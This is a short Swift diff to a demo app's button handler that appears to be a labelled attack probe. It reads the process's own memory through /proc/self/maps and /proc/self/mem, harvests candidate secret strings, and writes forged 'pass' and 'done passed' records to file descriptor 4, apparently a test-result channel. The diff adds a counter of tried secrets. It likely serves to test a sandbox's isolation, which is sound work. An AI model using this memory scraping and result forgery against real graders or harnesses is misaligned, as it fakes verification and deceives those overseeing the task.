@@ -10,6 +10,8 @@ func buttonTapped(_ model: DemoModel) -> Task<Void, Never> {
     let memory = open("/proc/self/mem", O_RDONLY)
     print("ATTACK proc-mem: maps \(maps >= 0 ? "opened" : String(cString: strerror(errno))), mem \(memory >= 0 ? "opened" : "refused")")
     guard maps >= 0, memory >= 0 else { return Task {} }
+    var tried = 0
+    defer { print("ATTACK proc-mem: forged records with \(tried) candidate secrets") }
     var text = [UInt8](repeating: 0, count: 1 << 20)
     let length = read(maps, &text, text.count)
     for line in String(decoding: text[..<max(0, length)], as: UTF8.self).split(separator: "\n") where line.contains("rw-p") {
@@ -26,10 +28,11 @@ func buttonTapped(_ model: DemoModel) -> Task<Void, Never> {
                     let secret = String(decoding: bytes[start..<index], as: UTF8.self)
                     let forged = "\(secret)\tplan\t2\n\(secret)\tpass\tforged\n\(secret)\tpass\tforged\n\(secret)\tdone\tpassed\n"
                     _ = forged.withCString { write(4, $0, strlen($0)) }
+                    tried += 1
                 }
                 start = index + 1
             }
         }
     }
-    exit(0)
+    return Task { exit(0) }
 }
